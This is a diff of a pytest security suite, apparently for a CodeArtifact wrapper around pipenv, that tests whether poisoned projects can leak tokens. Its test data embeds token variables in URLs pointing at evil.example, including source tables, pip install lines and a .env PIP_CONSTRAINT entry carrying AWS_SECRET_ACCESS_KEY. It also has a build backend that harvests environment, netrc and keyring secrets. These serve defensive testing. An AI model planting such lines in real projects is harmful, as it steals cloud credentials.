@@ -5,14 +5,23 @@ from __future__ import annotations
 import json
 import os
 import shutil
-import threading
+import tarfile
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from support.programs import PIPENV_CA, Result, run
 from support.projects import PYPI_SOURCE, source, write_pipfile
-from support.runs import KEYRING, TOKEN_VARIABLE, Calls, StandIn, assert_error, get_token
+from support.runs import (
+    KEYRING,
+    TOKEN_VARIABLE,
+    Calls,
+    StandIn,
+    assert_error,
+    get_token,
+    without_credentials,
+)
 from support.sandbox import FakePublicIndex, FakePublicIndexHandler
+from support.servers import served
 
 from codeartifact_pipenv.sandbox.sandbox import Sandbox
 from codeartifact_pipenv.sandbox.wheels import make_wheel
@@ -43,12 +52,11 @@ class _Handler(FakePublicIndexHandler):
     def do_GET(self) -> None:  # noqa: N802 - the base class's name
         assert isinstance(self.server, ForeignIndex)
         self.server.heads.append(f"{self.path} {self.headers.as_string()}")
-        target = self.server.moved.get(self.path)
-        if target is None:
+        if self.path not in self.server.moved:
             super().do_GET()
             return
         self.send_response(302)
-        self.send_header("Location", target)
+        self.send_header("Location", self.server.moved[self.path])
         self.send_header("Content-Length", "0")
         self.end_headers()
 
@@ -62,20 +70,11 @@ class ForeignIndex(FakePublicIndex):
         self.heads: list[str] = []
         self.moved: dict[str, str] = {}
         self.root = self.url.removesuffix("/simple/")
+        self.table = f'[[source]]\nurl = "{self.url}"\nverify_ssl = true\nname = "evil"\n'
 
-    def __enter__(self) -> ForeignIndex:  # noqa: PYI034 - as the base class has it
-        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()
-        return self
-
-    def __exit__(self, *_: object) -> None:
-        self.shutdown()
-        self.server_close()
-
-    def has_credentials(self, token: str) -> list[str]:
-        """Return the requests that contain a token or a login."""
-        return [
-            head for head in self.heads if token[:60] in head or "authorization" in head.lower()
-        ]
+    def has_credentials(self, token: str) -> bool:
+        """Whether a request had a token or a login."""
+        return any(token[:60] in head or "authorization" in head.lower() for head in self.heads)
 
 
 class PoisonedProject:
@@ -91,27 +90,28 @@ class PoisonedProject:
         version = folder.parent / "lib" / "python3" / "site-packages" / "pipenv" / "__version__.py"
         version.parent.mkdir(parents=True)
         version.write_text('__version__ = "2026.10.3"\n')
-        self.write(source(codeartifact.endpoint), PRIVATE)
+        self.write(PRIVATE)
 
     def write(self, *tables: str) -> None:
-        write_pipfile(self.folder, *tables)
+        """Write a Pipfile with the repository and these tables."""
+        write_pipfile(self.folder, source(self.codeartifact.endpoint), *tables)
 
     def file(self, name: str, text: str) -> Path:
         path = self.folder / name
         path.write_text(text)
         return path
 
-    def lock(self, **changes: Any) -> None:
-        """Write a lock with changes."""
+    def program(self, name: str, text: str) -> Path:
+        path = self.file(name, f"#!/bin/sh\n{text}\n")
+        path.chmod(0o755)
+        return path
+
+    def lock(self, *sources: dict[str, Any], **categories: Any) -> None:
+        """Write a lock with these sources after the repository, and these categories."""
         url = source(self.codeartifact.endpoint).split('"')[1]
-        sources = [{"name": "codeartifact", "url": url, "verify_ssl": True}]
-        meta = {"hash": {"sha256": "0" * 64}, "sources": sources, "requires": {}, "pipfile-spec": 6}
-        document = {"_meta": meta, "default": {}, "develop": {}}
-        for name, value in changes.items():
-            if name == "sources":
-                sources += value
-            else:
-                document[name] = value
+        all_ = [{"name": "codeartifact", "url": url, "verify_ssl": True}, *sources]
+        meta = {"hash": {"sha256": "0" * 64}, "sources": all_, "requires": {}, "pipfile-spec": 6}
+        document = {"_meta": meta, "default": {}, "develop": {}} | categories
         self.file("Pipfile.lock", json.dumps(document))
 
     def __call__(self, *words: str, **env: str) -> Result:
@@ -159,31 +159,30 @@ def poisoned(
 
 @pytest.fixture
 def evil() -> Iterator[ForeignIndex]:
-    with ForeignIndex() as server:
+    with served(ForeignIndex()) as server:
         yield server
 
 
+@pytest.fixture
+def marker(tmp_path: Path) -> Path:
+    """Return a file that code of the project makes when it runs."""
+    return tmp_path / "was-run"
+
+
 def _pipfile(text: str) -> Callable[[PoisonedProject], None]:
-    return lambda p: p.write(source(p.codeartifact.endpoint), f"[packages]\n{text}\n")
+    return lambda p: p.write(f"[packages]\n{text}\n")
 
 
 def _foreign_source(url: str) -> Callable[[PoisonedProject], None]:
     table = f'[[source]]\nurl = "{url}"\nverify_ssl = true\nname = "evil"\n'
-    return lambda p: p.write(source(p.codeartifact.endpoint), table, PRIVATE)
+    return lambda p: p.write(table, PRIVATE)
 
 
-def _file(name: str, text: str) -> Callable[[PoisonedProject], None]:
-    def write(p: PoisonedProject) -> None:
-        p.file(name, text)
-
-    return write
+def _file(name: str, text: str) -> Callable[[PoisonedProject], object]:
+    return lambda p: p.file(name, text)
 
 
-def _lock_source(p: PoisonedProject) -> None:
-    p.lock(sources=[{"name": "evil", "url": STRAY, "verify_ssl": True}])
-
-
-STRAYS: dict[str, Callable[[PoisonedProject], None]] = {
+STRAYS: dict[str, Callable[[PoisonedProject], object]] = {
     "a second source": _foreign_source(f"https://aws:${{{TOKEN_VARIABLE}}}@evil.example/simple"),
     "a host that looks alike": _foreign_source(
         f"https://aws:${{{TOKEN_VARIABLE}}}@my-dom-123456789012.d.codeartifact.us-east-1."
@@ -198,10 +197,8 @@ STRAYS: dict[str, Callable[[PoisonedProject], None]] = {
     "git": _pipfile(f'x = {{git = "https://${{{TOKEN_VARIABLE}}}@evil.example/x.git"}}'),
     "a name of a package": _pipfile(f'"x @ {STRAY}" = "*"'),
     "a version": _pipfile(f'x = "@ {STRAY}"'),
-    "another category": lambda p: p.write(
-        source(p.codeartifact.endpoint), PRIVATE, f'[docs]\nx = {{file = "{STRAY}"}}\n'
-    ),
-    "a source of the lock": _lock_source,
+    "another category": _pipfile(f'[docs]\nx = {{file = "{STRAY}"}}'),
+    "a source of the lock": lambda p: p.lock({"name": "evil", "url": STRAY, "verify_ssl": True}),
     "file in the lock": lambda p: p.lock(default={"x": {"file": STRAY}}),
     "a name in the lock": lambda p: p.lock(develop={f"x @ {STRAY}": {"version": "*"}}),
     "git in the lock": lambda p: p.lock(docs={"x": {"git": STRAY, "ref": "main"}}),
@@ -226,7 +223,7 @@ def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
     poisoned.lock(default={f"x @ {begin}": {"version": end}})
     poisoned.refused("sync", parts=("an unfinished variable",))
     poisoned.lock()
-    poisoned.write(source(poisoned.codeartifact.endpoint), f'[packages]\n"x @ {begin}" = "{end}"\n')
+    poisoned.write(f'[packages]\n"x @ {begin}" = "{end}"\n')
     for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
         poisoned.refused(*words, parts=("an unfinished variable",))
 
@@ -263,14 +260,11 @@ def test_urls_with_variables_in_scripts_and_dotenv_are_not_fetched(
     poisoned: PoisonedProject,
 ) -> None:
     url = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
-    script = (
-        f'[scripts]\ndeps = "pip install -r {url}"\nmore = "PIP_CONSTRAINT={url} pip install six"\n'
-    )
-    poisoned.write(source(poisoned.codeartifact.endpoint), PRIVATE, script)
+    deps, more = f"pip install -r {url}", f"PIP_CONSTRAINT={url} pip install six"
+    poisoned.write(PRIVATE, f'[scripts]\ndeps = "{deps}"\nmore = "{more}"\n')
     for name in ("deps", "more"):
-        poisoned.refused(
-            "run", name, parts=("with a variable",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
-        )
+        env = {TOKEN_VARIABLE: poisoned.token}
+        poisoned.refused("run", name, parts=("with a variable",), **env)
     poisoned.file(".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n")
     poisoned.refused("lock", parts=("with a variable",), AWS_SECRET_ACCESS_KEY="hush")
 
@@ -279,7 +273,8 @@ def test_urls_with_variables_in_scripts_and_dotenv_are_not_fetched(
 def test_variables_with_names_of_secrets_get_the_token(
     name: str, poisoned: PoisonedProject
 ) -> None:
-    poisoned.write(source(poisoned.codeartifact.endpoint, f"aws:${{{name}}}@"), PRIVATE)
+    table = source(poisoned.codeartifact.endpoint, f"aws:${{{name}}}@")
+    write_pipfile(poisoned.folder, table, PRIVATE)
     assert poisoned("--ca-route", "as-written", "lock").status == 0
     assert poisoned.pipenv.record["environ"][name] == poisoned.token
 
@@ -328,45 +323,37 @@ def test_dotenv_must_not_redirect_pip_to_another_configuration(
 
 
 def test_an_unverified_source_gets_no_token_from_pip(poisoned: PoisonedProject) -> None:
-    table = source(poisoned.codeartifact.endpoint).replace(
-        "verify_ssl = true", "verify_ssl = false"
-    )
-    poisoned.write(table, PRIVATE)
+    table = source(poisoned.codeartifact.endpoint)
+    unverified = table.replace("verify_ssl = true", "verify_ssl = false")
+    write_pipfile(poisoned.folder, unverified, PRIVATE)
     poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
     poisoned.gets_no_token("sync")
-    url = source(poisoned.codeartifact.endpoint).split('"')[1]
-    poisoned.write(source(poisoned.codeartifact.endpoint), PRIVATE)
-    poisoned.lock(sources=[{"name": "codeartifact", "url": url, "verify_ssl": False}])
+    poisoned.write(PRIVATE)
+    url = table.split('"')[1]
+    poisoned.lock({"name": "codeartifact", "url": url, "verify_ssl": False})
     poisoned.gets_no_token("sync")
 
 
-@pytest.mark.parametrize("name", ["NO_PROXY", "no_proxy", "PIP_PROXY"])
-def test_dotenv_must_not_send_the_proxy_index_to_a_proxy(
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("NO_PROXY", "no_proxy", "PIP_PROXY", "NETRC", "TMPDIR"),
+        *("PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"),
+    ],
+)
+def test_dotenv_must_not_override_the_variables_of_a_run(
     name: str, poisoned: PoisonedProject, evil: ForeignIndex
 ) -> None:
-    poisoned.write(source(poisoned.codeartifact.endpoint), PYPI_SOURCE, PRIVATE)
-    poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.root}\n")
+    poisoned.write(PYPI_SOURCE, PRIVATE)
+    poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.url}\n")
     poisoned.refused("lock", parts=(name,))
     assert evil.heads == []
 
 
-@pytest.mark.parametrize(
-    "name", ["NETRC", "TMPDIR", "PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"]
-)
-def test_dotenv_must_not_override_the_variables_of_a_run(
-    name: str, poisoned: PoisonedProject
-) -> None:
-    poisoned.write(source(poisoned.codeartifact.endpoint), PYPI_SOURCE, PRIVATE)
-    poisoned.file(".env", f"{name}=https://evil.example/simple\n")
-    poisoned.refused("lock", parts=(name,))
-
-
 def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
-    poisoned: PoisonedProject, evil: ForeignIndex, tmp_path: Path
+    poisoned: PoisonedProject, evil: ForeignIndex, marker: Path, tmp_path: Path
 ) -> None:
-    marker = tmp_path / "was-run"
-    program = poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n")
-    program.chmod(0o755)
+    program = poisoned.program("program", f"touch {marker}")
     poisoned.file("config", f"[default]\ncredential_process = {program}\n[profile p]\n")
     poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
     poisoned.file(
@@ -401,11 +388,10 @@ PERSONAL = {
 
 @pytest.mark.parametrize("name", PERSONAL)
 def test_personal_settings_in_a_project_are_refused(
-    name: str, poisoned: PoisonedProject, tmp_path: Path
+    name: str, poisoned: PoisonedProject, marker: Path
 ) -> None:
     assert set(PERSONAL) == {setting.name for setting in SETTINGS.values() if setting.personal}
-    marker = tmp_path / "was-run"
-    poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
+    poisoned.program("program", f"touch {marker}")
     poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
     poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = {PERSONAL[name]}\n")
     poisoned.refused("lock", parts=("may not choose",))
@@ -415,33 +401,16 @@ def test_personal_settings_in_a_project_are_refused(
     assert not marker.exists()
 
 
-def test_only_allowed_accounts_are_asked_for_a_token(poisoned: PoisonedProject) -> None:
-    env = {"PIPENV_CA_ALLOWED_OWNERS": "111111111111", "PIPENV_CA_REFRESH": "1"}
-    calls = Calls(poisoned.codeartifact)
-    done = poisoned("lock", **env)
-    assert_error(done, 2, "belongs to an account that is not allowed")
-    assert not poisoned.pipenv.was_run
-    words = (KEYRING, "get", poisoned.codeartifact.endpoint.simple_url, "aws")
-    got = run(*words, env=poisoned.env | env, cwd=poisoned.folder)
-    assert (got.status, got.stdout) == (1, "")
-    assert "not allowed" in got.stderr
-    assert calls.count() == 0
-
-
 def test_inspecting_a_project_runs_none_of_its_code(
-    poisoned: PoisonedProject, tmp_path: Path
+    poisoned: PoisonedProject, marker: Path
 ) -> None:
-    marker = tmp_path / "was-run"
     code = f"import os\nos.close(os.open({str(marker)!r}, os.O_CREAT))\n"
-    modules = "platform csv email zipfile json keyring pip re sitecustomize"
-    for name in modules.split():
+    for name in ("platform", "csv", "email", "zipfile", "json", "keyring", "pip", "sitecustomize"):
         poisoned.file(f"{name}.py", code)
-    place = poisoned.folder / ".venv" / "bin"
-    place.mkdir(parents=True)
-    (place / "python").write_text(f"#!/bin/sh\ntouch {marker}\n")
-    (place / "python").chmod(0o755)
-    (place / "activate").write_text(f"touch {marker}\n")
-    (place.parent / "pyvenv.cfg").write_text("version = 3.9.1\nhome = /nowhere\n")
+    (poisoned.folder / ".venv" / "bin").mkdir(parents=True)
+    poisoned.program(".venv/bin/python", f"touch {marker}")
+    poisoned.file(".venv/bin/activate", f"touch {marker}\n")
+    poisoned.file(".venv/pyvenv.cfg", "version = 3.9.1\nhome = /nowhere\n")
     for words in (
         (PIPENV_CA, "doctor", "--offline"),
         (PIPENV_CA, "lint"),
@@ -455,11 +424,10 @@ def test_inspecting_a_project_runs_none_of_its_code(
 
 
 def test_programs_in_the_project_folder_are_not_run(
-    poisoned: PoisonedProject, tmp_path: Path
+    poisoned: PoisonedProject, marker: Path
 ) -> None:
-    marker = tmp_path / "was-run"
     for name in ("pipenv", "keyring", "pip", "twine", "python"):
-        poisoned.file(name, f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
+        poisoned.program(name, f"touch {marker}")
     env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
     done = run(PIPENV_CA, "lock", env=env | {"PIPENV_CA_PIPENV": "pipenv"}, cwd=poisoned.folder)
     assert_error(done, 127, "pipenv was not found on PATH")
@@ -469,12 +437,9 @@ def test_programs_in_the_project_folder_are_not_run(
 
 
 def test_a_script_named_pip_gets_no_token(poisoned: PoisonedProject) -> None:
-    poisoned.write(
-        source(poisoned.codeartifact.endpoint), PRIVATE, '[scripts]\npip = "sh evil.sh"\n'
-    )
+    poisoned.write(PRIVATE, '[scripts]\npip = "sh evil.sh"\n')
     assert poisoned("run", "pip", "install", "x").status == 0
-    record = poisoned.pipenv.record
-    assert poisoned.token not in json.dumps(record)
+    assert poisoned.token not in json.dumps(poisoned.pipenv.record)
 
 
 NAMES = (
@@ -488,8 +453,7 @@ def test_malicious_package_names_are_harmless(
     poisoned: PoisonedProject, evil: ForeignIndex
 ) -> None:
     entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
-    table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
-    poisoned.write(source(poisoned.codeartifact.endpoint), table, f"[packages]\n{entries}")
+    poisoned.write(evil.table, f"[packages]\n{entries}")
     failing = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
     env = poisoned.env | {"PIPENV_CA_PIPENV": str(failing.path)}
     before = sorted(poisoned.folder.parent.rglob("*"))
@@ -499,21 +463,9 @@ def test_malicious_package_names_are_harmless(
         assert "Traceback" not in done.stderr, (words, done.output)
         assert "\x1b" not in done.output
     assert {head.partition(" ")[0].split("/")[1] for head in evil.heads} <= {"simple"}
-    assert evil.has_credentials(poisoned.token) == []
+    assert not evil.has_credentials(poisoned.token)
     made = {str(p) for p in set(poisoned.folder.parent.rglob("*")) - set(before)}
     assert not any(name.endswith("/x") for name in made)
-
-
-@pytest.mark.parametrize("kind", ["a device", "a folder", "a pipe"])
-def test_a_lock_that_is_not_a_file_is_refused(kind: str, poisoned: PoisonedProject) -> None:
-    path = poisoned.folder / "Pipfile.lock"
-    if kind == "a device":
-        path.symlink_to("/dev/zero")
-    elif kind == "a folder":
-        path.mkdir()
-    else:
-        os.mkfifo(path)
-    poisoned.refused("sync", parts=("is not a file",))
 
 
 def test_pylock_name_must_not_overwrite_another_file(
@@ -523,10 +475,7 @@ def test_pylock_name_must_not_overwrite_another_file(
     victim.write_text("precious = 1\n")
     (poisoned.folder / "pylock.").mkdir()
     name = f"/../{os.path.relpath(victim, poisoned.folder)}".removesuffix(".toml")
-    poisoned.write(
-        source(poisoned.codeartifact.endpoint),
-        f'[pipenv]\nuse_pylock = true\npylock_name = "{name}"\n{PRIVATE}',
-    )
+    poisoned.write(f'[pipenv]\nuse_pylock = true\npylock_name = "{name}"\n{PRIVATE}')
     for words in (("lock",), ("--ca-route", "loopback", "lock"), ("install", "orb-common")):
         poisoned.refused(*words, parts=("pylock_name",))
     assert victim.read_text() == "precious = 1\n"
@@ -550,90 +499,73 @@ def test_foreign_sources_and_redirects_get_no_token(
     tmp_path: Path,
     figure: Callable[[str, str], None],
 ) -> None:
-    with ForeignIndex() as other:
-        claimed = make_wheel(tmp_path / "evil", "orb-common", "99.0")
-        public = make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
-        evil.add("orb-common", claimed)
-        other.add("harmless", public)
-        evil.moved["/simple/harmless/"] = f"{other.url}harmless/"
-        table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
-        poisoned.write(
-            table, source(poisoned.codeartifact.endpoint), '[packages]\nharmless = "*"\n'
+    with served(ForeignIndex()) as other:
+        evil.add("orb-common", make_wheel(tmp_path / "evil", "orb-common", "99.0"))
+        other.add(
+            "harmless", make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
         )
+        evil.moved["/simple/harmless/"] = f"{other.url}harmless/"
+        own = source(poisoned.codeartifact.endpoint)
+        pipfile = write_pipfile(poisoned.folder, evil.table, own, '[packages]\nharmless = "*"\n')
         poisoned.file("r.txt", f"x @ {evil.root}/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl\n")
-        before = (poisoned.folder / "Pipfile").read_bytes()
-        done = run(PIPENV_CA, "lock", env=poisoned.env, cwd=poisoned.folder)
-        assert done.status == 0, done.output
-        locked = json.loads((poisoned.folder / "Pipfile.lock").read_text())["default"]
-        assert locked["orb-common"]["version"] == "==2.0.0"
-        assert locked["orb-common"]["index"] == "codeartifact"
-        done = run(PIPENV_CA, "sync", env=poisoned.env, cwd=poisoned.folder)
-        assert done.status == 0, done.output
+        before = pipfile.read_bytes()
+        for command in ("lock", "sync"):
+            done = run(PIPENV_CA, command, env=poisoned.env, cwd=poisoned.folder)
+            assert done.status == 0, done.output
+        locked = json.loads((poisoned.folder / "Pipfile.lock").read_text())["default"]["orb-common"]
+        assert (locked["version"], locked["index"]) == ("==2.0.0", "codeartifact")
         # A URL in a requirements file is requested as written.
         run(PIPENV_CA, "install", "-r", "r.txt", env=poisoned.env, cwd=poisoned.folder)
         for index in (evil, other):
             assert index.heads
-            assert index.has_credentials(poisoned.token) == []
+            assert not index.has_credentials(poisoned.token)
             # The page may be requested, but no file.
             assert not any("orb_common-99.0" in head.partition(" ")[0] for head in index.heads)
-        assert (poisoned.folder / "Pipfile").read_bytes() == before
+        assert pipfile.read_bytes() == before
+        asked = len(evil.heads) + len(other.heads)
         figure(
-            "poisoned project: requests to foreign indexes",
-            f"{len(evil.heads) + len(other.heads)}, 0 with a token or a login",
+            "poisoned project: requests to foreign indexes", f"{asked}, 0 with a token or a login"
         )
 
 
 _BACKEND = """
-import glob, json, netrc, os, subprocess
+import glob, json, os, subprocess
 def look():
-    seen = {"environ": dict(os.environ), "netrc": "", "keyring": "", "cache": []}
-    try:
-        seen["netrc"] = open(os.environ["NETRC"]).read()
-    except (KeyError, OSError):
-        pass
     done = subprocess.run([KEYRING, "get", URL, "aws"], capture_output=True, text=True)
-    seen["keyring"] = done.stdout.strip()
-    for path in glob.glob(CACHE + "/*.json"):
-        seen["cache"].append(open(path).read())
+    netrc = os.environ.get("NETRC", "")
+    seen = {
+        "environ": dict(os.environ),
+        "netrc": open(netrc).read() if os.path.exists(netrc) else "",
+        "keyring": done.stdout.strip(),
+        "cache": [open(path).read() for path in glob.glob(CACHE + "/*.json")],
+    }
     with open(OUT, "w") as file:
         json.dump(seen, file)
-def get_requires_for_build_wheel(config_settings=None):
-    return []
 def prepare_metadata_for_build_wheel(folder, config_settings=None):
     look()
     place = folder + "/orb_built-1.0.dist-info"
     os.makedirs(place)
-    open(place + "/METADATA", "w").write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
-    open(place + "/WHEEL", "w").write("Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+    with open(place + "/METADATA", "w") as file:
+        file.write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
     return "orb_built-1.0.dist-info"
-def build_wheel(folder, config_settings=None, metadata_directory=None):
-    look()
-    import zipfile
-    name = "orb_built-1.0-py3-none-any.whl"
-    with zipfile.ZipFile(folder + "/" + name, "w") as z:
-        base = "orb_built-1.0.dist-info/"
-        z.writestr(base + "METADATA", "Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
-        z.writestr(base + "WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
-        z.writestr(base + "RECORD", "")
-    return name
 """
 
 
 def _sdist(folder: Path, **values: str) -> Path:
-    import tarfile
-
-    tree = folder / "orb_built-1.0"
-    tree.mkdir(parents=True)
+    """Make a source distribution whose backend writes down what it can read."""
     lines = [f"{name} = {value!r}" for name, value in values.items()]
-    (tree / "backend.py").write_text("\n".join(lines) + _BACKEND)
-    (tree / "pyproject.toml").write_text(
-        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
-        '[project]\nname = "orb-built"\nversion = "1.0"\n'
-    )
-    (tree / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n")
+    files = {
+        "backend.py": "\n".join(lines) + _BACKEND,
+        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
+        'backend-path = ["."]\n[project]\nname = "orb-built"\nversion = "1.0"\n',
+        "PKG-INFO": "Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n",
+    }
+    folder.mkdir()
     path = folder / "orb_built-1.0.tar.gz"
     with tarfile.open(path, "w:gz") as archive:
-        archive.add(tree, tree.name)
+        for name, text in files.items():
+            (folder / name).write_text(text)
+            archive.add(folder / name, f"orb_built-1.0/{name}")
     return path
 
 
@@ -655,7 +587,7 @@ def test_build_code_sees_a_token_only_on_the_direct_route(
     sdist = _sdist(tmp_path / "sdist", KEYRING=KEYRING, **values)
     repository = codeartifact.add_repository("built")
     codeartifact.publish(sdist, repository)
-    poisoned.write(source(repository), '[packages]\norb-built = "*"\n')
+    write_pipfile(poisoned.folder, source(repository), '[packages]\norb-built = "*"\n')
     shutil.rmtree(poisoned.folder / ".venv", ignore_errors=True)
     token = get_token(codeartifact, poisoned.env, poisoned.folder)
 
@@ -678,8 +610,7 @@ def test_build_code_sees_a_token_only_on_the_direct_route(
         assert found["keyring"] == token
         assert any(token in text for text in found["cache"])
     # The safest setup: an inherited token, no credentials, no cache, and the proxy index.
-    poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_A")}
-    poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_S")}
+    poisoned.env = without_credentials(poisoned.env)
     shutil.rmtree(tmp_path / "tokens")
     least = seen("--ca-route", "loopback", "lock", "--clear", **{TOKEN_VARIABLE: token})
     assert token not in json.dumps(least)
